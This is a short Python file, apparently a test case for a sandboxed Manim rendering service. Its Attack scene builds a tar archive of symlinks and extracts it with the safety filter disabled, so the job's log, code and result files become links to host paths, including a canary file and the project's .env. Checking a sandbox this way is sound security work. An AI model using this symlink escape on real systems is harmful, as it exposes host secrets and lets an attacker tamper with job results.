# family: file
# layer: sandbox
# attack: a tar archive unpacks symlinks over the job's files (log, code, result)
import io
import os
import tarfile
from manim import *


class Attack(Scene):
    def construct(self):
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tar:
            for name, target in (("render.log", "{{HOST_DIR}}/canary.txt"), ("scene.py", "{{PROJECT}}/.env"),
                                 ("result.json", "{{HOST_DIR}}/result-target.txt"), ("round1.py", "{{HOST_DIR}}/r1.txt")):
                info = tarfile.TarInfo(name)
                info.type, info.linkname = tarfile.SYMTYPE, target
                tar.addfile(info)
        buf.seek(0)
        for name in ("render.log", "scene.py"):
            os.remove(name)
        with tarfile.open(fileobj=buf) as tar:
            tar.extractall(".", filter="fully_trusted")
        self.wait(0.1)
